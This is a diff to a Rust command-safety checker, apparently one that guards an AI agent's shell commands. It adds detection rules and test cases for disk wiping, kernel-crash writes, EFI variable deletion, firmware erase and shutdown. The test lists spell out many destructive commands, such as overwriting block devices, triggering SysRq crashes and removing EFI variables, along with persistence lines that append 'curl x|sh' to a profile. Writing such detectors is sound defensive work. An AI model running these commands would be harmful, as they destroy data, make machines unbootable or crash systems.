@@ -144,12 +144,12 @@ fn deletes_everything_here(inv: &Invocation) -> bool {
 }
 
 /// Paths a command writes to: its redirections, and the files programs such as `tee`, `cp`,
-/// `dd of=`, `sed -i`, `truncate` or `touch` write.
+/// `dd of=`, `sed -i`, `truncate`, `touch`, `curl -o` or `wget -O` write.
 fn written(inv: &Invocation) -> Vec<Arg> {
     let mut out: Vec<Arg> = inv.writes.iter().map(|w| w.target.clone()).collect();
     let ops = inv.operands();
     match inv.program.as_str() {
-        "tee" | "truncate" | "touch" | "shred" => out.extend(ops.into_iter().cloned()),
+        "tee" | "sponge" | "truncate" | "touch" | "shred" => out.extend(ops.into_iter().cloned()),
         "cp" | "mv" | "install" | "ln" | "rsync" | "scp" => {
             if let Some(t) = inv
                 .args
@@ -161,12 +161,39 @@ fn written(inv: &Invocation) -> Vec<Arg> {
                 out.extend(ops.last().map(|a| (*a).clone()));
             }
         }
-        "dd" => out.extend(inv.args.iter().filter_map(|a| {
-            a.text.strip_prefix("of=").map(|t| Arg {
-                text: t.to_owned(),
-                ..a.clone()
-            })
+        // dc3dd also writes `hof=` (hashed) and `ofs=` (split) outputs.
+        "dd" | "dcfldd" | "dc3dd" | "sg_dd" => out.extend(inv.args.iter().filter_map(|a| {
+            ["of=", "hof=", "ofs=", "hofs="]
+                .iter()
+                .find_map(|p| a.text.strip_prefix(p))
+                .map(|t| Arg {
+                    text: t.to_owned(),
+                    ..a.clone()
+                })
         })),
+        // `ddrescue [options] INFILE OUTFILE [MAPFILE]`.
+        "ddrescue" => out.extend(ops.get(1).map(|a| (*a).clone())),
+        // `-o FILE`, `-sSLo FILE`, `--output FILE`, `--output=FILE` (wget: `-O`).
+        "curl" | "wget" => {
+            let (short, long) = if inv.program == "curl" {
+                ('o', "--output")
+            } else {
+                ('O', "--output-document")
+            };
+            for (i, a) in inv.args.iter().enumerate() {
+                let t = a.text.as_str();
+                if let Some(file) = t.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
+                    out.push(Arg {
+                        text: file.to_owned(),
+                        ..a.clone()
+                    });
+                } else if t == long
+                    || (t.starts_with('-') && !t.starts_with("--") && t.ends_with(short))
+                {
+                    out.extend(inv.args.get(i + 1).cloned());
+                }
+            }
+        }
         "sed" | "perl"
             if inv
                 .args
@@ -177,24 +204,117 @@ fn written(inv: &Invocation) -> Vec<Arg> {
             let scripted = inv.args.iter().any(|a| a.text == "-e" || a.text == "-f");
             out.extend(ops.into_iter().skip(usize::from(!scripted)).cloned());
         }
-        "chmod" | "chown" | "chgrp" | "chattr" | "setfacl" => {
-            out.extend(ops.into_iter().skip(1).cloned())
-        }
+        "chmod" | "chown" | "chgrp" | "setfacl" => out.extend(ops.into_iter().skip(1).cloned()),
+        // A mode is `+i`, `=i` or `-i`; the last looks like an option and is not an operand,
+        // so the first operand is not always the mode.
+        "chattr" => out.extend(
+            ops.into_iter()
+                .filter(|a| !a.text.starts_with(['+', '=']))
+                .cloned(),
+        ),
         _ => {}
     }
     out
 }
 
+/// Where `arg` lands, seen through `/proc/PID/root`.
+fn landing(inv: &Invocation, arg: &Arg) -> Option<String> {
+    resolved(inv, arg).map(|abs| paths::through_proc_root(&abs))
+}
+
 fn writes_block_device(inv: &Invocation) -> bool {
-    let devices = written(inv)
+    let device =
+        |a: &Arg| landing(inv, a).is_some_and(|abs| paths::may_be(&abs, paths::is_block_device));
+    written(inv).iter().any(device)
+        || (inv.program == "shred" && inv.operands().into_iter().any(device))
+}
+
+/// Writes to the kernel controls of [`paths::is_machine_fatal`], as files or as sysctl
+/// settings (`sysctl -w kernel.sysrq=1`, `sysctl kernel/panic=1`). Any value counts: the
+/// value is often out of sight (`echo $X > ...`), and an agent has no reason to tune these.
+fn writes_machine_fatal(inv: &Invocation) -> bool {
+    let files = written(inv)
         .iter()
-        .any(|a| resolved(inv, a).is_some_and(|abs| paths::is_block_device(&abs)));
-    devices
-        || (inv.program == "shred"
-            && inv
-                .operands()
-                .iter()
-                .any(|a| resolved(inv, a).is_some_and(|abs| paths::is_block_device(&abs))))
+        .any(|a| landing(inv, a).is_some_and(|abs| paths::may_be(&abs, paths::is_machine_fatal)));
+    let settings = inv.program == "sysctl"
+        && inv.operands().iter().any(|a| {
+            a.text.split_once('=').is_some_and(|(key, _)| {
+                let file = format!("/proc/sys/{}", key.trim().replace('.', "/"));
+                paths::is_machine_fatal(&file)
+            })
+        });
+    files || settings
+}
+
+/// Deleting or writing EFI variables ([`paths::is_efi_variable`]), a recursive delete of a
+/// directory that holds them, `chattr` taking their protection off, or `efivar --write`.
+fn touches_efi_variables(inv: &Invocation) -> bool {
+    let variable =
+        |a: &Arg| landing(inv, a).is_some_and(|p| paths::may_be(&p, paths::is_efi_variable));
+    let recursive = recursive(inv) || inv.program == "rsync";
+    let deletes = deleted(inv).into_iter().any(|a| {
+        variable(a)
+            || (recursive
+                && landing(inv, a).is_some_and(|p| paths::may_be(&p, paths::holds_efi_variables)))
+    });
+    // `chattr +i` (only adding attributes) protects them.
+    let protects = inv.program == "chattr"
+        && inv
+            .args
+            .iter()
+            .map(|a| a.text.as_str())
+            .filter(|t| {
+                t.len() > 1
+                    && t.starts_with(['+', '-', '='])
+                    && t[1..].chars().all(|c| "aAcCdDeEFiIjmNPsStTux".contains(c))
+            })
+            .all(|mode| mode.starts_with('+'));
+    let writes = !protects && written(inv).iter().any(variable);
+    let tool = inv.program == "efivar"
+        && (inv.has_short('w')
+            || inv.has_short('a')
+            || inv.has_long("--write")
+            || inv.has_long("--append"));
+    deletes || writes || tool
+}
+
+/// Erasing a disk through its firmware (NVMe format and sanitize, ATA secure erase, SCSI
+/// format), writing its sectors or firmware directly, or a destructive surface test.
+fn erases_disk(inv: &Invocation) -> bool {
+    match inv.program.as_str() {
+        "nvme" => inv.args.first().is_some_and(|sub| {
+            matches!(
+                sub.text.as_str(),
+                "format"
+                    | "sanitize"
+                    | "write"
+                    | "write-zeroes"
+                    | "write-uncor"
+                    | "delete-ns"
+                    | "detach-ns"
+                    | "fw-download"
+                    | "fw-commit"
+                    | "fw-activate"
+            )
+        }),
+        "hdparm" => inv.args.iter().any(|a| {
+            [
+                "--security-erase",
+                "--write-sector",
+                "--trim-sector-ranges",
+                "--fwdownload",
+                "--make-bad-sector",
+                "--dco-restore",
+            ]
+            .iter()
+            .any(|f| a.text.starts_with(f))
+        }),
+        // `-w` writes patterns over every block; `-n` keeps the data.
+        "badblocks" => inv.has_short('w'),
+        "sg_format" => inv.has_long("--format") || inv.has_short('F'),
+        "sg_sanitize" => !(inv.has_long("--help") || inv.has_short('h')),
+        _ => false,
+    }
 }
 
 /// System files (`/etc`, `/boot`, `/usr`, kernel settings) and the user's start-up and
@@ -631,36 +751,141 @@ fn changes_system_state(inv: &Invocation) -> bool {
     }
 }
 
-/// `shutdown`, `reboot`, `init 0`, `telinit 6`, `systemctl isolate rescue.target`.
+/// Targets that stop, reboot or suspend the machine when started.
+const ENDING_TARGETS: &[&str] = &[
+    "reboot.target",
+    "poweroff.target",
+    "halt.target",
+    "kexec.target",
+    "soft-reboot.target",
+    "shutdown.target",
+    "ctrl-alt-del.target",
+    "rescue.target",
+    "emergency.target",
+    "suspend.target",
+    "hibernate.target",
+    "hybrid-sleep.target",
+    "suspend-then-hibernate.target",
+];
+
+/// Methods of logind's and systemd's D-Bus managers that stop, reboot or suspend the machine.
+const ENDING_METHODS: &[&str] = &[
+    "PowerOff",
+    "Reboot",
+    "Halt",
+    "Suspend",
+    "Hibernate",
+    "HybridSleep",
+    "SuspendThenHibernate",
+    "KExec",
+    "SoftReboot",
+    "PowerOffWithFlags",
+    "RebootWithFlags",
+    "HaltWithFlags",
+    "SuspendWithFlags",
+    "HibernateWithFlags",
+    "HybridSleepWithFlags",
+    "SuspendThenHibernateWithFlags",
+];
+
+/// `shutdown`, `reboot`, `init 0`, `telinit 6`, `systemctl isolate rescue.target`,
+/// `systemctl start reboot.target`, `kexec -e`, `rtcwake -m off`, logind over D-Bus.
 fn shuts_down(inv: &Invocation) -> bool {
     let args: Vec<&str> = inv.args.iter().map(|a| a.text.as_str()).collect();
+    let has = |words: &[&str]| args.iter().any(|a| words.contains(a));
     let help = args
         .iter()
         .any(|a| *a == "--help" || *a == "-h" && inv.program != "shutdown");
     match inv.program.as_str() {
-        "shutdown" | "reboot" | "halt" | "poweroff" | "openrc-shutdown" => !help,
+        // `shutdown -c` cancels a pending shutdown; `-k` and `--show` only talk about one.
+        "shutdown" => !help && !has(&["-c", "-k", "--show"]),
+        // `-w` only writes the wtmp record.
+        "reboot" | "halt" | "poweroff" => !help && !has(&["-w", "--wtmp-only"]),
+        "openrc-shutdown" | "pm-suspend" | "pm-hibernate" | "pm-suspend-hybrid" => !help,
+        // `-l` loads a kernel to boot instead of rebooting, `-e` boots it, `-f` both at once,
+        // and a kernel with no option loads and boots it. `-p` loads the crash kernel
+        // (kdump), `-u` unloads.
+        "kexec" => {
+            let boots = has(&["-e", "--exec", "-l", "--load", "-f", "--force"]);
+            let harmless = has(&[
+                "-h",
+                "--help",
+                "-v",
+                "--version",
+                "-u",
+                "--unload",
+                "-S",
+                "--status",
+                "-p",
+                "--load-panic",
+            ]);
+            boots || !harmless
+        }
+        // The default mode is `standby`; `no`, `on`, `disable` and `show` only set or show
+        // the alarm.
+        "rtcwake" => {
+            let mode = args.iter().enumerate().find_map(|(i, a)| {
+                if *a == "-m" || *a == "--mode" {
+                    args.get(i + 1).copied()
+                } else {
+                    a.strip_prefix("--mode=")
+                        .or_else(|| a.strip_prefix("-m").filter(|m| !m.is_empty()))
+                }
+            });
+            let dry = has(&["-n", "--dry-run", "-h", "--help", "-V", "--version"]);
+            !dry && !mode.is_some_and(|m| matches!(m, "no" | "on" | "disable" | "show"))
+        }
+        "busctl" | "dbus-send" | "gdbus" | "qdbus" | "qdbus6" => {
+            let manager = args
+                .iter()
+                .any(|a| a.contains("login1") || a.contains("systemd1"));
+            manager
+                && args.iter().any(|a| {
+                    let method = a.rsplit(['.', '=']).next().unwrap_or(a);
+                    ENDING_METHODS.contains(&method)
+                })
+        }
         "init" | "telinit" => args
             .iter()
             .any(|a| matches!(*a, "0" | "6" | "1" | "s" | "S")),
-        "systemctl" | "loginctl" => args.iter().any(|a| {
-            matches!(
-                *a,
-                "poweroff"
-                    | "reboot"
-                    | "halt"
-                    | "kexec"
-                    | "suspend"
-                    | "hibernate"
-                    | "rescue"
-                    | "emergency"
-                    | "isolate"
-                    | "soft-reboot"
-                    | "default"
-                    | "hybrid-sleep"
-                    | "terminate-user"
-                    | "kill-user"
-            )
-        }),
+        "systemctl" | "loginctl" => {
+            let ops = inv.operands();
+            let starts = ops.first().is_some_and(|verb| {
+                matches!(
+                    verb.text.as_str(),
+                    "start"
+                        | "restart"
+                        | "try-restart"
+                        | "reload-or-restart"
+                        | "try-reload-or-restart"
+                        | "isolate"
+                )
+            });
+            let ending = starts
+                && ops[1..]
+                    .iter()
+                    .any(|t| ENDING_TARGETS.contains(&t.text.as_str()));
+            ending
+                || args.iter().any(|a| {
+                    matches!(
+                        *a,
+                        "poweroff"
+                            | "reboot"
+                            | "halt"
+                            | "kexec"
+                            | "suspend"
+                            | "hibernate"
+                            | "rescue"
+                            | "emergency"
+                            | "isolate"
+                            | "soft-reboot"
+                            | "default"
+                            | "hybrid-sleep"
+                            | "terminate-user"
+                            | "kill-user"
+                    )
+                })
+        }
         _ => false,
     }
 }
@@ -898,11 +1123,103 @@ pub const RULES: &[RuleSpec] = &[
             "cat image > /dev/nvme0n1",
             "shred -n 3 /dev/sdb",
             "echo x | sudo tee /dev/vda",
+            "cat x > /dev/nvme0n1p1",
+            "dd if=img of=/dev/mmcblk0",
+            "dd if=/dev/zero of=/dev/loop0",
+            "dd if=/dev/zero of=/proc/self/root/dev/xvda",
+            "ddrescue -f image.img /dev/sdb",
+            "curl -sSLo /dev/sda https://x/image.img",
+            "python3 -c \"open('/dev/sda', 'rb+').write(b'0' * 512)\"",
+            "echo x | tee /dev/[sv]da",
         ],
         &[
             "dd if=/dev/zero of=disk.img bs=1M count=10",
             "echo x > /dev/null",
             "dd if=/dev/sda of=backup.img",
+            "cat /dev/sda | head -c 512",
+            "curl -o /dev/null https://x",
+            "echo x > ./dev/sda",
+            "ddrescue /dev/sda disk.img disk.map",
+        ],
+    ),
+    check(
+        "kernel-fatal-write",
+        Hardline,
+        "writing a kernel control that crashes, reboots or suspends the machine or corrupts its memory (SysRq, panic settings, /dev/mem, /dev/port, /dev/kmsg, the watchdog, /sys/power)",
+        writes_machine_fatal,
+        &[
+            "echo c > /proc/sysrq-trigger",
+            "echo b | sudo tee /proc/sysrq-trigger",
+            "echo c | dd of=/proc/sysrq-trigger",
+            "sh -c 'printf c >/proc/sysrq-trigger'",
+            "cd /proc && echo o > sysrq-trigger",
+            "python3 -c \"open('/proc/sysrq-trigger', 'w').write('c')\"",
+            "ruby -e 'File.write(\"/proc/sysrq-trigger\", \"c\")'",
+            "echo 1 > /proc/sys/kernel/sysrq",
+            "sysctl -w kernel.sysrq=1",
+            "sysctl kernel.panic=1",
+            "sysctl -w kernel/panic_on_oops=1",
+            "dd if=/dev/zero of=/dev/mem",
+            "echo x > /dev/port",
+            "yes > /dev/kmsg",
+            "echo 1 > /dev/watchdog",
+            "echo mem > /sys/power/state",
+            "echo reboot > /sys/power/disk",
+        ],
+        &[
+            "cat /proc/sysrq-trigger",
+            "cat /proc/sys/kernel/sysrq",
+            "sysctl kernel.sysrq",
+            "sysctl -w net.ipv4.ip_forward=1",
+            "echo c > ./proc/sysrq-trigger",
+            "echo c > /tmp/proc/sysrq-trigger",
+            "head /dev/kmsg",
+            "cat /sys/power/state",
+            "echo 3 > /proc/sys/vm/drop_caches",
+        ],
+    ),
+    check(
+        "efi-variables",
+        Hardline,
+        "deleting or overwriting EFI firmware variables (some machines no longer boot)",
+        touches_efi_variables,
+        &[
+            "rm /sys/firmware/efi/efivars/Boot0001-8be4df61-93ca-11d2-aa0d-00e098032b8c",
+            "rm -rf /sys/firmware/efi/efivars/*",
+            "sudo rm -rf /sys/firmware/efi",
+            "find /sys/firmware/efi/efivars -delete",
+            "chattr -i /sys/firmware/efi/efivars/Boot0001-8be4df61-93ca-11d2-aa0d-00e098032b8c",
+            "echo x > /sys/firmware/efi/efivars/Foo-8be4df61-93ca-11d2-aa0d-00e098032b8c",
+            "efivar -w -n 8be4df61-93ca-11d2-aa0d-00e098032b8c-Boot0000 -f boot.bin",
+        ],
+        &[
+            "ls /sys/firmware/efi/efivars",
+            "lsattr /sys/firmware/efi/efivars",
+            "efivar -l",
+            "chattr +i /sys/firmware/efi/efivars/Boot0001-8be4df61-93ca-11d2-aa0d-00e098032b8c",
+            "rm /sys/firmware/efi/efivars/dump-type0-1-1-1700000000-C-cfc8fc79-be2e-4ddc-97f0-9f98bfe298a0",
+            "rm /sys/firmware/efi/efivars",
+        ],
+    ),
+    check(
+        "disk-erase",
+        Hardline,
+        "erasing a disk through its firmware, writing its sectors directly, or a destructive surface test",
+        erases_disk,
+        &[
+            "nvme format /dev/nvme0n1",
+            "sudo nvme sanitize -a 2 /dev/nvme0",
+            "hdparm --user-master u --security-erase p /dev/sda",
+            "badblocks -wsv /dev/sdb",
+            "sg_format --format /dev/sg1",
+        ],
+        &[
+            "nvme list",
+            "nvme smart-log /dev/nvme0",
+            "hdparm -I /dev/sda",
+            "badblocks -sv /dev/sdb",
+            "badblocks -nsv /dev/sdb",
+            "sg_format /dev/sg1",
         ],
     ),
     RuleSpec {
@@ -992,7 +1309,7 @@ pub const RULES: &[RuleSpec] = &[
     check(
         "shutdown",
         Hardline,
-        "shutting down, rebooting or isolating the machine",
+        "shutting down, rebooting, suspending or isolating the machine, or booting another kernel",
         shuts_down,
         &[
             "sudo shutdown -h now",
@@ -1001,12 +1318,27 @@ pub const RULES: &[RuleSpec] = &[
             "init 0",
             "telinit 6",
             "systemctl isolate rescue.target",
+            "systemctl start reboot.target",
+            "kexec -e",
+            "kexec -l /boot/vmlinuz --reuse-cmdline",
+            "kexec /boot/vmlinuz",
+            "rtcwake -m off -s 60",
+            "rtcwake -s 60",
+            "pm-suspend",
+            "busybox poweroff",
+            "busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager PowerOff b false",
         ],
         &[
             "echo reboot later",
             "grep shutdown logs.txt",
             "systemctl status nginx",
             "systemctl list-units",
+            "systemctl status reboot.target",
+            "shutdown -c",
+            "kexec --help",
+            "kexec -p /boot/vmlinuz-crash",
+            "rtcwake -m show",
+            "busctl introspect org.freedesktop.login1 /org/freedesktop/login1",
         ],
     ),
     check(
@@ -1069,7 +1401,9 @@ pub const RULES: &[RuleSpec] = &[
             "echo ssh-ed25519 AAA >> ~/.ssh/authorized_keys2",
             "echo 'curl x|sh' >> ~/.profile",
             "echo '*:*:*:u:p' > ~/.pgpass",
-            "echo b > /proc/sysrq-trigger",
+            "echo 1 > /proc/sys/net/ipv4/ip_forward",
+            "chattr -i /etc/resolv.conf",
+            "curl -o /etc/hosts https://x/hosts",
             "touch /etc/x",
             "echo TOKEN=x > .env",
             "cp .env.local .env",
